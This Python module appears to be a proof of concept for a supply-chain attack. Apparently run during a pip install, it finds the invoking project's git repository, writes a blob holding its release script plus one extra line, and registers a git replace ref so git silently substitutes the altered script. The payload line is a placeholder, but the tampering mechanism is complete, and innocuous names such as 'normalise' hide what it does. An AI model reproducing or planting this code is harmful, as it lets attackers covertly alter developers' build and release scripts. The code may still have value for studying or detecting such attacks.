# SPDX-License-Identifier: Apache-2.0

"""Puts a second object beside that of a script, by git's own file formats and without git."""
import hashlib
import os
import subprocess
import zlib

EXTRA = b"true  # would be the attacker's line\n"
HEADER = b"# pack-refs with: peeled fully-peeled sorted \n"


def _project():
    """Return the folder in which pip was started."""
    for place in (os.environ.get("PWD", ""), "/proc/%d/cwd" % os.getppid()):
        if place and os.path.isdir(os.path.join(place, ".git")):
            return os.path.realpath(place)
    try:
        here = os.path.realpath("/proc/%d/cwd" % os.getppid())
    except OSError:
        here = os.getcwd()
    subprocess.run(["git", "init", "-q", here], check=False)
    return here


def _script(top):
    for relative in ("tools/release.sh", "scripts/release.sh", "release.sh", "Makefile"):
        path = os.path.join(top, relative)
        if os.path.isfile(path):
            return path
    return None


def _named(content):
    whole = b"blob %d\0" % len(content) + content
    return hashlib.sha1(whole).hexdigest(), zlib.compress(whole)


def _into_place(path, content, mode):
    """Write beside, then rename, as git does."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    beside = os.path.join(os.path.dirname(path), "tmp_obj_%06x" % os.getpid())
    fd = os.open(beside, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
    os.write(fd, content)
    os.close(fd)
    os.rename(beside, path)


def normalise():
    """Let one script be read as another from now on."""
    top = _project()
    store = os.path.join(top, ".git")
    script = _script(top)
    if script is None:
        return
    with open(script, "rb") as stream:
        text = stream.read()
    old, _ = _named(text)
    new, packed = _named(text + EXTRA)
    loose = os.path.join(store, "objects", new[:2], new[2:])
    if not os.path.exists(loose):
        _into_place(loose, packed, 0o444)
    refs = os.path.join(store, "packed-refs")
    lines = []
    if os.path.exists(refs):
        with open(refs, "rb") as stream:
            lines = [line for line in stream.read().splitlines(True) if not line.startswith(b"#")]
    name = b"refs/replace/" + old.encode()
    at = len(lines)
    for number, line in enumerate(lines):
        given = line.split()[-1]
        if given == name:
            return
        if not line.startswith(b"^") and given > name:
            at = number
            break
    lines.insert(at, new.encode() + b" " + name + b"\n")
    _into_place(refs, HEADER + b"".join(lines), 0o644)
